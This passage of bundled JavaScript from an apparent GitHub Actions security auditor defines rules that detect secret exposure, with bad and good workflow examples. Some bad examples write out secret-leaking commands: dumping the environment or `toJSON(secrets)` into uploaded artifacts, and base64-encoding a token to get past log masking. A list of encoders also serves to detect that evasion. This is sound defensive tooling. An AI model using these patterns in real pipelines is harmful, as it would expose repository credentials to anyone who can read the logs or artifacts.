            return;
        yield {
            at: context.placeIn(scalar, span.start, span.end),
            ...(owner.kind === 'step' || owner.kind === 'job' ? { statement: owner.map.at } : {}),
            message: computed
                ? 'Which secret this is becomes known only when the job runs, so that the runner gets all of them'
                : 'This hands over every secret of the repository',
        };
    },
    examples: {
        bad: [
            (0,example/* stepsExample */.Y6)('- run: ./deploy\n  env:\n    ALL: ${{ toJSON(secrets) }}'),
            (0,example/* stepsExample */.Y6)("- run: ./deploy\n  env:\n    KEY: ${{ secrets[format('KEY_{0}', github.ref_name)] }}"),
        ],
        good: [
            (0,example/* stepsExample */.Y6)("- run: ./deploy\n  env:\n    KEY: ${{ secrets.KEY }}\n    OTHER: ${{ secrets['OTHER'] }}", 'environment: production'),
        ],
    },
});
/** The context itself as an argument, or as the value. */
function handsOverAll(tree) {
    if ((0,credentials_secrets/* secretAccesses */.l$)(tree).every(({ kind }) => kind !== 'all'))
        return false;
    for (const node of (0,expression_tree/* allParts */.C)(tree))
        if (node.kind === 'call' &&
            node.arguments.some((argument) => (0,credentials_secrets/* secretAccesses */.l$)(argument).some(({ kind, node: own }) => kind === 'all' && own === argument)))
            return true;
    return false;
}

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/program-words.js
var program_words = __webpack_require__(8924);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/credentials/rights-beside-installs.js
// A job in which the install scripts of packages run beside what they would want to have.






/** Programs that run code of the packages they install, by the verbs that do, and the options that stop it. */
const installers = {
    npm: { verbs: ['ci', 'install', 'i', 'clean-install', 'install-test'], unless: ['--ignore-scripts'] },
    yarn: { verbs: ['install', ''], unless: ['--ignore-scripts', '--mode'] },
    pip: { verbs: ['install'], unless: ['--only-binary'] },
    pip3: { verbs: ['install'], unless: ['--only-binary'] },
    bundle: { verbs: ['install', ''], unless: [] },
    composer: { verbs: ['install', 'update'], unless: ['--no-scripts'] },
};
const rightsBesideInstalls = (0,src_rule/* audit */.s)({
    id: 'rights-beside-installs',
    severity: 'medium',
    confidence: 'high',
    title: 'Install scripts of packages run beside secrets and a token that writes',
    why: 'A package that was taken over runs its script at installation, as in the npm worms of 2025, and finds the job\u2019s secrets in its environment and the token\u2019s rights at hand.',
    remedy: 'Install and build in a job without rights, hand the result over as an artifact, and give secrets to the step alone that needs them; or install with `--ignore-scripts`.',
    controls: controls/* controls */.n.supplyChain,
    risks: risks/* risks */.X.credentials,
    references: ['https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions'],
    on: ['job'],
    *check(job, context) {
        const { document } = context;
        if (document.kind !== 'workflow' || (0,graph_rights/* tokenOf */.B9)(job.permissions ?? document.permissions).token !== 'write')
            return;
        const around = (0,graph_rights/* secretsGiven */.Rz)(document.env).length > 0 ? (0,graph_rights/* secretsGiven */.Rz)(document.env) : (0,graph_rights/* secretsGiven */.Rz)(job.env);
        const all = around.length > 0 ? around : [...(0,graph_rights/* secretNames */.XG)(job.map)];
        if (all.length === 0)
            return;
        const found = firstInstall(job, context);
        if (found === undefined)
            return;
        const { step, command, at } = found;
        const name = all[0] === '*' ? 'all secrets' : `the secret ${all[0]}`;
        yield {
            at,
            statement: step.map.at,
            message: around.length > 0
                ? `\`${command}\` runs scripts of packages with ${name} in their environment, in a job whose token writes`
                : `\`${command}\` runs scripts of packages in a job that has ${name} and a token that writes`,
            // What stands in a later step is out of their environment, and within reach of what they leave behind.
            ...(around.length > 0 ? {} : { severity: 'low', persona: 'pedantic' }),
        };
    },
    examples: {
        bad: [
            (0,example/* workflowExample */.ih)({
                permissions: 'permissions:\n  contents: write # to tag',
                job: 'env:\n  TOKEN: ${{ secrets.TOKEN }}',
                steps: '- run: npm ci\n- run: npm publish',
            }),
            (0,example/* workflowExample */.ih)({
                permissions: 'permissions:\n  contents: write # to tag',
                steps: '- run: pip install -r requirements.txt\n- run: make publish\n  env:\n    TOKEN: ${{ secrets.TOKEN }}',
            }),
        ],
        good: [
            (0,example/* workflowExample */.ih)({ steps: '- run: npm ci' }),
            (0,example/* workflowExample */.ih)({ permissions: 'permissions:\n  contents: write # to tag', steps: '- run: npm ci' }),
        ],
    },
});
function firstInstall({ steps }, context) {
    for (const step of steps) {
        const script = (0,src_script/* scriptOf */.YI)(step, context);
        if (script === undefined)
            continue;
        for (const { command, name, args } of (0,src_script/* invocationsIn */.J3)(script)) {
            const installer = Object.hasOwn(installers, name) ? installers[name] : undefined;
            const verb = (0,program_words/* programWords */.O)(name, args)[0] ?? '';
            if (installer === undefined || !installer.verbs.includes(verb) || (0,src_script/* hasOption */.Kz)(args, ...installer.unless))
                continue;
            return { step, command: `${name} ${verb}`.trim(), at: script.place(command.node) };
        }
    }
    return undefined;
}

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/parts.js
var taint_parts = __webpack_require__(205);
// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/uploads.js
var taint_uploads = __webpack_require__(7169);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/credentials/secret-variables.js
// Which values of a step are secrets.




/** The nearest that sets a variable counts: a step before its job, and that before the workflow. */
function secretVariables(step) {
    const layers = (0,parts/* envsOf */.sr)(step)
        .toReversed()
        .filter(({ length }) => length > 0)
        .map(givenBy);
    if (layers.every(({ secrets }) => secrets.size === 0))
        return noSecrets;
    return {
        *names() {
            for (const [index, { secrets }] of layers.entries())
                if (secrets.size > 0)
                    for (const name of secrets.keys())
                        if (!layers.some(({ named }, at) => at > index && named.has(name)))
                            yield name;
        },
        placeOf: (name) => layers.findLast(({ named }) => named.has(name))?.secrets.get(name),
    };
}
const noSecrets = { names: () => [], placeOf: () => undefined };
function holdsSecret(variables) {
    if (variables === noSecrets)
        return false;
    for (const _ of variables.names())
        return true;
    return false;
}
/** The variables that a text of a shell takes in, as they are written. */
function variablesNamed(text) {
    return [...text.matchAll(/\$\{?([A-Za-z_]\w{0,200})/g)].map(([, name]) => name);
}
/** Worked out once for each `env:`: that of a workflow stands around thousands of steps. */
const givenBy = (0,remembered/* rememberedOf */.M)((pairs) => {
    const secrets = new Map();
    for (const pair of pairs) {
        secrets.delete(pair.name);
        if (bringsSecret(pair.scalar?.text ?? ''))
            secrets.set(pair.name, (0,parts/* placeOfPair */.$H)(pair));
    }
    return { named: new Set(pairs.map(({ name }) => name)), secrets };
});
/** Whether an expression of a text gives a secret, or all of them. */
function bringsSecret(text) {
    return (text.includes('${{') &&
        /\bsecrets\b/i.test(text) &&
        (0,find/* expressionsIn */.l)(text).some((found) => {
            const tree = (0,parse/* parseExpression */.YK)(found.text);
            return tree.kind !== 'mistake' && (0,credentials_secrets/* secretAccesses */.l$)(tree).length > 0;
        }));
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/credentials/secret-in-artifact.js
// Secrets that a script writes into a file which the job then uploads.








const secretInArtifact = (0,src_rule/* audit */.s)({
    id: 'secret-in-artifact',
    severity: 'high',
    confidence: 'medium',
    title: 'A secret is written into a file that is uploaded',
    why: 'Nothing is masked in an artifact, and whoever may read the repository downloads it: of a public one, anyone with an account.',
    remedy: 'Write only what is needed, without the secret, or remove the file before the upload.',
    controls: controls/* controls */.n.credentials,
    risks: risks/* risks */.X.credentials,
    references: [
        'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-secrets',
    ],
    on: ['script-step'],
    *check(step, context) {
        for (const written of secretsWritten(step, context)) {
            const upload = uploadOf(written.file, step, written.at.end, context);
            if (upload === undefined)
                continue;
            yield {
                at: written.at,
                statement: step.map.at,
                message: `The step writes ${written.what} into \`${written.file.slice(0, 80)}\`, and the job uploads that`,
                flow: [
                    written.source,
                    { at: written.at, message: `it is written into \`${written.file.slice(0, 80)}\`` },
                    { at: upload, message: 'the file becomes part of an artifact, in which nothing is masked' },
                ],
            };
        }
    },
    examples: {
        bad: [
            (0,example/* stepsExample */.Y6)('- env:\n    TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n  run: |\n    mkdir -p logs\n    env | sort > logs/environment.txt\n- uses: actions/upload-artifact@v4\n  with:\n    path: logs/', 'environment: production'),
            (0,example/* stepsExample */.Y6)('- run: echo "${{ toJSON(secrets) }}" > all.json\n- uses: actions/upload-artifact@v4\n  with:\n    path: all.json', 'environment: production'),
        ],
        good: [
            (0,example/* stepsExample */.Y6)(`- env:\n    TOKEN: \${{ secrets.DEPLOY_TOKEN }}\n  run: |\n    echo "$TOKEN" > token.txt\n    ./deploy token.txt\n    rm -f token.txt\n    make report > report.txt\n- uses: actions/upload-artifact@${example/* commit */.cd} # v4\n  with:\n    path: |\n      token.txt\n      report.txt\n    retention-days: 5`, 'environment: production'),
        ],
    },
});
function* secretsWritten(step, context) {
    const { run } = step;
    if (run === undefined)
        return;
    const variables = secretVariables(step);
    if (!holdsSecret(variables) && !bringsSecret(run.text))
        return;
    const script = (0,src_script/* scriptOf */.YI)(step, context);
    if (script === undefined)
        return;
    for (const command of script.commands) {
        const program = programOf(command.node);
        const target = targetOf(program);
        if (target === undefined)
            continue;
        const printed = printedBy(program, command.feeders, run.text, variables);
        if (printed === undefined)
            continue;
        const file = placedFile(target, step);
        if (file === undefined)
            continue;
        const at = script.place(command.node);
        const variable = printed === 'expression' ? undefined : variables.placeOf(printed);
        const source = variable === undefined
            ? { at, message: 'an expression brings the secret' }
            : { at: variable, message: 'the step is given the secret' };
        const what = printed === 'expression' ? 'a secret' : `the secret in \`${printed}\``;
        yield { file, what, at, source };
    }
}
/** `env` without a program behind it is the program itself. */
function programOf(node) {
    const words = node.words.map(({ value }) => value);
    const start = (0,src_script/* startOf */.GH)(words);
    const at = start < words.length ? start : words.lastIndexOf('env', start);
    return { name: words[at] ?? '', args: words.slice(at + 1), node };
}
/** File that a command's output goes to, as it is written. */
function targetOf({ name, args, node }) {
    const redirect = node.redirects.find(({ operator }) => /^(?:[1&]?>{1,2}\|?)$/.test(operator));
    if (redirect?.target !== undefined)
        return redirect.target.value;
    return name === 'tee' ? args.find((arg) => !arg.startsWith('-')) : undefined;
}
/** Programs that hand on what they are fed. */
const passing = new Set(['sort', 'grep', 'tee', 'cat', 'sed', 'uniq', 'head', 'tail', 'awk']);
/** The variable whose secret a command prints, or that an expression brings it. */
function printedBy(program, feeders, text, variables) {
    const printed = printedIn(program, text, variables);
    if (printed !== undefined || !passing.has(program.name))
        return printed;
    const feeder = feeders.at(-1);
    return feeder?.kind === 'simple' ? printedBy(programOf(feeder), feeders.slice(0, -1), text, variables) : undefined;
}
function printedIn({ name, args, node }, text, variables) {
    if (dumps(name, args))
        return firstOf(variables.names());
    if (name === 'printenv')
        return args.find((arg) => variables.placeOf(arg) !== undefined);
    if (name !== 'echo' && name !== 'printf' && name !== 'cat')
        return undefined;
    const bodies = node.redirects.flatMap(({ body }) => (body === undefined ? [] : [text.slice(body.start, body.end)]));
    const said = [text.slice(node.start, node.end), ...bodies].join('\n');
    if (bringsSecret(said))
        return 'expression';
    return variablesNamed(said).find((variable) => variables.placeOf(variable) !== undefined);
}
function firstOf(names) {
    for (const name of names)
        return name;
    return undefined;
}
/** Whether a command prints all variables there are. */
function dumps(name, args) {
    if (name === 'env' || name === 'printenv')
        return args.every((arg) => arg === '-0' || arg === '--null');
    if (name === 'set')
        return args.length === 0;
    if (name === 'export')
        return args.length === 0 || args[0] === '-p';
    return (name === 'declare' || name === 'typeset') && args.length === 1 && /^-[px]{1,2}$/.test(args[0]);
}
/** A file as artifacts name it; undefined where a variable decides which one it is. */
function placedFile(written, step) {
    const path = (0,taint_parts/* filePath */.s$)(written);
    if (path === '' || /[$`*?]|^dev\//.test(path))
        return undefined;
    if (written.startsWith('/') || written.startsWith('~'))
        return path;
    const folder = (0,taint_parts/* filePath */.s$)((step.workingDirectory ?? (0,parts/* jobOf */.Zw)(step)?.defaults.workingDirectory)?.text ?? '');
    return /[$`]/.test(folder) ? undefined : (0,taint_parts/* filePath */.s$)(folder === '' || path.startsWith(`${folder}/`) ? path : `${folder}/${path}`);
}
/** Place of the later step's input that takes the file along; undefined where none does, or the file is removed before. */
function uploadOf(file, step, behind, context) {
    const steps = step.owner.steps;
    for (const later of steps.slice(steps.indexOf(step))) {
        if (removes(later, file, later === step ? behind : 0, context))
            return undefined;
        const place = (0,taint_uploads/* placeOfUpload */.EL)(later, file);
        if (place !== undefined)
            return place;
    }
    return undefined;
}
/** @param behind an offset in the file behind which the command must stand. */
function removes(step, file, behind, context) {
    const script = step.run === undefined || !/\b(?:rm|shred|unlink)\b/.test(step.run.text) ? undefined : (0,src_script/* scriptOf */.YI)(step, context);
    if (script === undefined)
        return false;
    return (0,src_script/* invocationsIn */.J3)(script).some(({ name, args, command }) => /^(?:rm|shred|unlink)$/.test(name) &&
        script.place(command.node).start >= behind &&
        args.some((arg) => {
            const gone = placedFile(arg, step);
            return gone === file || (gone !== undefined && file.startsWith(`${gone}/`));
        }));
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/credentials/secret-in-log.js
// Secrets that a script prints in a form that nothing masks.





/** Programs whose answer is the secret in another form, which the runner does not know. */
const changers = new Set(['base64', 'xxd', 'od', 'hexdump', 'rev', 'sed', 'tr', 'cut', 'fold', 'gzip', 'openssl']);
const secretInLog = (0,src_rule/* audit */.s)({
    id: 'secret-in-log',
    aliases: ['secret-exfiltration', 'secrets-in-logs', 'unmasked-secret-exposure'],
    severity: 'high',
    confidence: 'medium',
    title: 'A script prints a secret in a form that is not masked',
    why: 'The runner hides a secret only as it was given; encoded, cut or reversed it stands in the log for whoever may read that.',
    remedy: 'Print nothing of it; where a changed form is needed, mask that with `::add-mask::` before anything can print it.',
    controls: controls/* controls */.n.credentials,
    risks: risks/* risks */.X.credentials,
    references: [
        'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-secrets',
    ],
    on: ['script-step'],
    *check(step, context) {
        const { run } = step;
        if (run === undefined)
            return;
        const secrets = secretVariables(step);
        const script = holdsSecret(secrets) || bringsSecret(run.text) ? (0,src_script/* scriptOf */.YI)(step, context) : undefined;
        if (script === undefined)
            return;
        for (const { name, command } of (0,src_script/* invocationsIn */.J3)(script)) {
            if (!changers.has(name) || !command.feeders.some((node) => node.kind === 'simple' && prints(run.text, node, secrets)))
                continue;
            const { start, end } = command.node;
            // What is kept in a variable or a file is not printed.
            const before = run.text.slice(run.text.lastIndexOf('\n', start) + 1, start);
            if (/\$\(|`/.test(before) ||
                command.node.redirects.length > 0 ||
                /^[^\n]{0,300}[|>]/.test(run.text.slice(end)) ||
                decodes(run.text.slice(start, end)))
                continue;
            yield { at: script.place(command.node), statement: step.map.at, message: `\`${name}\` prints a secret in a form that is not masked` };
        }
    },
    examples: {
        bad: [(0,example/* stepsExample */.Y6)('- env:\n    TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n  run: echo "$TOKEN" | base64', 'environment: production')],
        good: [(0,example/* stepsExample */.Y6)('- run: make test')],
    },
});

/** Out of another form, the secret is as it was given or was never one. */
function decodes(command) {
    return /\s(?:-d|-D|--decode|-r)\b/.test(command) || /openssl\s{1,5}(?:enc|aes|dgst|rsautl|pkeyutl)/.test(command);
}

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/context.js
var src_context = __webpack_require__(7619);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/credentials/secrets-inherit.js
// All secrets for a reusable workflow.







const secretsInherit = (0,src_rule/* audit */.s)({
    id: 'secrets-inherit',
    severity: 'medium',
    confidence: 'high',
    title: 'A reusable workflow gets every secret of its caller',
    why: 'The called workflow, and whoever can change it, has secrets that it never asked for, those added later included.',
    remedy: 'List the secrets that it needs below `secrets:`.',
    controls: controls/* controls */.n.leastPrivilege,
    risks: risks/* risks */.X.credentials,
    references: ['https://docs.zizmor.sh/audits/#secrets-inherit'],
    on: ['job'],
    *check(job, context) {
        if (job.uses === undefined || job.secrets?.inherit !== true)
            return;
        const { secrets, uses } = job;
        yield {
            at: uses.scalar.at,
            statement: job.map.at,
            message: `\`${uses.text.slice(0, 200)}\` gets every secret`,
            related: [{ at: (0,src_context/* placeOfEntry */.h$)(secrets.key, secrets.value), message: 'This hands them over.' }],
            fix: () => listed(job, context),
        };
    },
    examples: {
        bad: [(0,example/* callExample */.jL)(`uses: example/workflows/.github/workflows/build.yml@${example/* commit */.cd} # v1.0.0\nsecrets: inherit`)],
        good: [
            (0,example/* callExample */.jL)(`uses: example/workflows/.github/workflows/build.yml@${example/* commit */.cd} # v1.0.0\nsecrets:\n  KEY: \${{ secrets.KEY }}`),
            (0,example/* callExample */.jL)(`uses: example/workflows/.github/workflows/build.yml@${example/* commit */.cd} # v1.0.0`),
        ],
    },
});
/** The secrets that a workflow of this repository declares and uses; of others nothing is known. */
function listed({ uses, secrets }, { file, repository }) {
    const called = uses?.target.kind === 'local' ? repository.workflow(uses.target)?.document : undefined;
    if (called?.kind !== 'workflow' || secrets === undefined || secrets.value.alias !== undefined)
        return undefined;
    const names = new Set();
    for (const { tree } of (0,sites/* expressionSites */.Tf)(called)) {
        if (tree.kind === 'mistake')
            continue;
        for (const { name } of (0,credentials_secrets/* secretAccesses */.l$)(tree)) {
            if (name === undefined)
                return undefined;
            if (name !== credentials_secrets/* jobToken */.Pt)
                names.add(name);
        }
    }
    // Handing on what it does not declare is an error; a workflow that calls others may need more than it says.
    const declared = new Set((called.call?.secrets ?? []).map(({ name }) => name.toUpperCase()));
    if ([...names].some((name) => !declared.has(name)) || called.jobs.some((job) => job.secrets?.inherit === true))
        return undefined;
    const { key, value } = secrets;
    const space = (0,src_edits/* lineEnd */.kd)(file) + (0,src_edits/* indentationAt */.pi)(file, key.at.start);
    if (names.size === 0)
        return undefined;
    const lines = [...names].sort().map((name) => `${space}  ${name}: \${{ secrets.${name} }}`);
    return {
        description: 'Hand over the secrets that it uses',
        kind: 'suggested',
        edits: [{ start: key.at.end, end: value.at.end, replacement: `:${lines.join('')}` }],
    };
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/credentials/secrets-outside-env.js
// Secrets of the repository in jobs without an environment.




const secretsOutsideEnv = (0,src_rule/* audit */.s)({
    id: 'secrets-outside-env',
    severity: 'medium',
    confidence: 'high',
    persona: 'auditor',
    title: 'A secret is used without an environment',
    why: 'A secret of the repository is there for every workflow on every branch; one of an environment is there after its rules let the job through.',
    remedy: 'Store the secret in an environment with reviewers or a branch rule, and name that at the job.',
    controls: controls/* controls */.n.leastPrivilege,
    risks: risks/* risks */.X.credentials,
    references: [
        'https://docs.zizmor.sh/audits/#secrets-outside-env',
        'https://docs.github.com/en/actions/managing-workflow-runs-and-deployments/managing-deployments/managing-environments-for-deployment',
    ],
    on: ['expression'],
    only: credentials_secrets/* readsSecrets */.h7,
    *check({ tree, scalar, inner, owner, path }, context) {
        if (tree.kind === 'mistake')
            return;
        const job = jobOf(owner);
        // What a caller hands to a reusable workflow is used in that one's jobs.
        if (job === undefined || job.environment !== undefined || job.uses !== undefined || path[0] === 'if')
            return;
        // Secrets of a reusable workflow are its caller's, whatever its own triggers are.
        if (job.workflow.call !== undefined)
            return;
        for (const { node, name } of (0,credentials_secrets/* secretAccesses */.l$)(tree)) {
            if (name === credentials_secrets/* jobToken */.Pt || (name !== undefined && context.settings.allowedSecrets.has(name.toUpperCase())))
                continue;
            yield {
                at: context.placeIn(scalar, inner.start + node.span.start, inner.start + node.span.end),
                statement: owner.kind === 'step' ? owner.map.at : job.map.at,
                message: `${name === undefined ? 'Secrets are' : `\`${name}\` is`} used in \`${job.id}\`, which has no environment`,
            };
        }
    },
    examples: {
        bad: [(0,example/* stepsExample */.Y6)('- run: ./deploy\n  env:\n    KEY: ${{ secrets.KEY }}')],
        good: [
            (0,example/* stepsExample */.Y6)('- run: ./deploy\n  env:\n    KEY: ${{ secrets.KEY }}', 'environment: production'),
            (0,example/* stepsExample */.Y6)('- run: ./deploy\n  env:\n    KEY: ${{ secrets.GITHUB_TOKEN }}'),
        ],
    },
});
function jobOf(owner) {
    if (owner.kind === 'job')
        return owner;
    return owner.kind === 'step' && owner.owner.kind === 'job' ? owner.owner : undefined;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/credentials/static-cloud-key.js
// Keys of clouds and registries that are stored, where the job\u2019s own identity would do.






const logins = new Map([
    [
        'aws-actions/configure-aws-credentials',
        {
            cloud: 'AWS',
            keys: ['aws-secret-access-key', 'aws-access-key-id', 'aws-session-token'],
            instead: [['role-to-assume', '${{ vars.AWS_ROLE_ARN }}']],
        },
    ],
    [
        'azure/login',
        {
            cloud: 'Azure',
            keys: ['creds'],
            instead: [
                ['client-id', '${{ vars.AZURE_CLIENT_ID }}'],
                ['tenant-id', '${{ vars.AZURE_TENANT_ID }}'],
                ['subscription-id', '${{ vars.AZURE_SUBSCRIPTION_ID }}'],
            ],
        },
    ],
    [
        'google-github-actions/auth',
        {
            cloud: 'Google Cloud',
            keys: ['credentials_json'],
            instead: [
                ['workload_identity_provider', '${{ vars.GCP_IDENTITY_PROVIDER }}'],
                ['service_account', '${{ vars.GCP_SERVICE_ACCOUNT }}'],
            ],
        },
    ],
    [
        'hashicorp/vault-action',
        {
            cloud: 'Vault',
            keys: ['token', 'secretid', 'roleid', 'password', 'githubtoken'],
            instead: [
                ['method', 'jwt'],
                ['role', '${{ vars.VAULT_ROLE }}'],
            ],
        },
    ],
    ['google-github-actions/setup-gcloud', { cloud: 'Google Cloud', keys: ['service_account_key'], instead: [] }],
    ['js-devtools/npm-publish', { cloud: 'npm', keys: ['token'], instead: [] }],
    ['katyo/publish-crates', { cloud: 'crates.io', keys: ['registry-token'], instead: [] }],
]);
/** Variables by which programs take such a key, and what they open. */
const variables = new Map([
    ['AWS_SECRET_ACCESS_KEY', 'AWS'],
    ['AZURE_CLIENT_SECRET', 'Azure'],
    ['ARM_CLIENT_SECRET', 'Azure'],
    ['AZURE_CREDENTIALS', 'Azure'],
    ['GOOGLE_CREDENTIALS', 'Google Cloud'],
    ['GCP_SA_KEY', 'Google Cloud'],
    ['GCLOUD_SERVICE_KEY', 'Google Cloud'],
    ['CLOUDSDK_AUTH_ACCESS_TOKEN', 'Google Cloud'],
    ['VAULT_TOKEN', 'Vault'],
    ['NODE_AUTH_TOKEN', 'npm'],
    ['NPM_TOKEN', 'npm'],
    ['TWINE_PASSWORD', 'PyPI'],
    ['PYPI_TOKEN', 'PyPI'],
    ['PYPI_API_TOKEN', 'PyPI'],
    ['UV_PUBLISH_TOKEN', 'PyPI'],
    ['CARGO_REGISTRY_TOKEN', 'crates.io'],
    ['GEM_HOST_API_KEY', 'RubyGems'],
]);
const aws = `- uses: aws-actions/configure-aws-credentials@${example/* commit */.cd} # v4.1.0\n  with:\n    aws-region: eu-central-1`;
const staticCloudKey = (0,src_rule/* audit */.s)({
    id: 'static-cloud-key',
    severity: 'medium',
    confidence: 'high',
    title: 'A stored key opens a cloud that takes the job\u2019s own identity',
    why: 'The key works from anywhere for whoever gets it, until somebody changes it; a token of the job is over within the hour.',
    remedy: 'Let the cloud trust the workflow by OIDC, give the job `id-token: write`, and delete the key.',
    controls: controls/* controls */.n.credentials,
    risks: risks/* risks */.X.credentials,
    references: [
        'https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/about-security-hardening-with-openid-connect',
    ],
    on: ['workflow', 'job', 'step'],
    only: (part) => part.env.length > 0 || (part.kind === 'step' && part.uses !== undefined),
    *check(part, context) {
        if (part.kind === 'step')
            yield* loginProblems(part, context);
        yield* variableProblems(part);
    },
    examples: {
        bad: [
            (0,example/* stepsExample */.Y6)(`${aws}\n    aws-access-key-id: \${{ secrets.KEY_ID }}\n    aws-secret-access-key: \${{ secrets.KEY }} # from the vault`),
            (0,example/* stepsExample */.Y6)(`- uses: azure/login@${example/* commit */.cd} # v2.3.0\n  with:\n    creds: \${{ secrets.AZURE }}`),
            (0,example/* stepsExample */.Y6)(`- uses: google-github-actions/auth@${example/* commit */.cd} # v2.1.10\n  with:\n    project_id: example\n    credentials_json: '\${{ secrets.GCP }}'`),
            (0,example/* stepsExample */.Y6)(`- uses: hashicorp/vault-action@${example/* commit */.cd} # v3.3.0\n  with:\n    url: https://vault.example.com\n    token: \${{ secrets.VAULT }}\n    secrets: secret/data/ci key | KEY`),
            (0,example/* stepsExample */.Y6)('- run: npm publish\n  env:\n    NODE_AUTH_TOKEN: ${{ secrets.NPM }}'),
        ],
        good: [
            (0,example/* stepsExample */.Y6)(`${aws}\n    role-to-assume: arn:aws:iam::123456789012:role/deploy`, 'permissions:\n  id-token: write # for AWS\nenvironment: production'),
            (0,example/* stepsExample */.Y6)('- run: npm test\n  env:\n    NODE_AUTH_TOKEN: ${{ secrets.GITHUB_TOKEN }}'),
        ],
    },
});
/** A stored secret, and nothing that a step before it asked for. */
function isStored({ scalar }) {
    const text = scalar?.text ?? '';
    return /\$\{\{[^}]{0,200}\bsecrets\b/i.test(text) && !/secrets\.GITHUB_TOKEN\b/i.test(text);
}
function* loginProblems(step, context) {
    const name = (0,parts/* actionName */.aM)(step);
    const login = name === undefined ? undefined : logins.get(name);
    const key = login?.keys.map((input) => (0,parts/* inputOf */.wg)(step, input)).find((pair) => pair !== undefined && isStored(pair));
    if (login === undefined || key === undefined)
        return;
    yield {
        at: (0,parts/* placeOfPair */.$H)(key),
        statement: step.map.at,
        message: `\`${key.name}\` is a stored key, where ${login.cloud} takes the job\u2019s identity`,
        fix: () => byIdentity(step, login, context),
    };
}
function* variableProblems(part) {
    for (const pair of part.env) {
        const cloud = variables.get(pair.name.toUpperCase());
        if (cloud === undefined || !isStored(pair))
            continue;
        yield {
            at: (0,parts/* placeOfPair */.$H)(pair),
            ...(part.kind === 'workflow' ? {} : { statement: part.map.at }),
            confidence: 'medium',
            message: `\`${pair.name}\` is a stored key, where ${cloud} takes the job\u2019s identity`,
        };
    }
}
/** Which role it is, nobody but its owner knows: the values are variables to be filled in. */
function byIdentity(step, { cloud, keys, instead }, { file }) {
    const inputs = (0,parts/* entryOf */.Ms)(step.map, 'with')?.value;
    if (inputs?.kind !== 'map' || inputs.alias !== undefined || (0,src_edits/* isFlow */.Td)(file, inputs))
        return undefined;
    const [first, ...others] = inputs.entries.filter(({ name }) => keys.includes(name.toLowerCase()));
    const lines = instead
        .filter(([name]) => !inputs.entries.some((entry) => entry.name.toLowerCase() === name))
        .map(([name, value]) => `${name}: ${value}`);
    const end = first === undefined ? undefined : endOfScalar(first.value);
    if (first?.key.kind !== 'scalar' || !first.key.plain || end === undefined || lines.length === 0)
        return undefined;
    // The first key becomes the other form, further ones go with their lines.
    const separator = (0,src_edits/* lineEnd */.kd)(file) + (0,src_edits/* indentationAt */.pi)(file, first.key.at.start);
    const edits = [{ start: first.key.at.start, end, replacement: lines.join(separator) }];
    for (const { key, value } of others) {
        const last = endOfScalar(value);
        if (last === undefined)
            return undefined;
        edits.push((0,rule/* removeLines */.aY)(file.text, { start: key.at.start, end: last }));
    }
    return { description: `Sign in to ${cloud} by identity`, kind: 'suggested', edits };
}
/** With the quote behind it; undefined for texts over several lines, and for what other places share. */
function endOfScalar(value) {
    if (value.kind !== 'scalar' || value.alias !== undefined || value.style === 'literal' || value.style === 'folded')
        return undefined;
    return value.at.end + (value.plain ? 0 : 1);
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/credentials/unredacted-secrets.js
// Parts of a secret, which the log does not hide.





const unredactedSecrets = (0,src_rule/* audit */.s)({
    id: 'unredacted-secrets',
    severity: 'medium',
    confidence: 'high',
    title: 'A part of a secret is used that the log does not hide',
    why: 'The runner hides the whole text of a secret; what is read out of it as JSON is another text, and shows wherever it is printed.',
    remedy: 'Store each value as a secret of its own.',
    controls: controls/* controls */.n.credentials,
    risks: risks/* risks */.X.credentials,
    references: ['https://docs.zizmor.sh/audits/#unredacted-secrets'],
    on: ['expression'],
    only: credentials_secrets/* readsSecrets */.h7,
    *check({ tree, scalar, span, owner }, context) {
        if (tree.kind === 'mistake' || !readsSecret(tree))
            return;
        yield {
            at: context.placeIn(scalar, span.start, span.end),
            ...(owner.kind === 'step' || owner.kind === 'job' ? { statement: owner.map.at } : {}),
            message: '`fromJSON` makes texts of a secret that are not hidden in the log',
        };
    },
    examples: {
        bad: [(0,example/* stepsExample */.Y6)('- run: ./deploy\n  env:\n    PASSWORD: ${{ fromJSON(secrets.DATABASE).password }}')],
        good: [
            (0,example/* stepsExample */.Y6)('- run: ./deploy\n  env:\n    PASSWORD: ${{ secrets.DATABASE_PASSWORD }}\n    SIZE: ${{ fromJSON(vars.DATABASE).size }}', 'environment: production'),
        ],
    },
});
function readsSecret(tree) {
    for (const node of (0,expression_tree/* allParts */.C)(tree))
        if (node.kind === 'call' && node.name.toLowerCase() === 'fromjson')
            if (node.arguments.some((argument) => (0,credentials_secrets/* secretAccesses */.l$)(argument).some(({ kind }) => kind !== 'all')))
                return true;
    return false;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/credentials/publishing.js
// Commands that publish a package to a registry that takes the identity of a job.


/** Programs in front of a publishing one: `npx npm publish`, `uv run twine upload`, `bundle exec gem push`. */
const fronts = new Map([
    ['npx', [[]]],
    ['bunx', [[]]],
    ['uvx', [[]]],
    ['uv', [['run'], ['tool', 'run']]],
    ['pipx', [['run']]],
    ['bundle', [['exec']]],
    ['poetry', [['run']]],
    ['pdm', [['run']]],
    ['hatch', [['run']]],
    // Both start a package's own program by its name alone.
    ['pnpm', [['exec'], ['dlx'], []]],
    ['yarn', [['dlx'], ['exec'], ['run'], []]],
    ['npm', [['exec']]],
]);
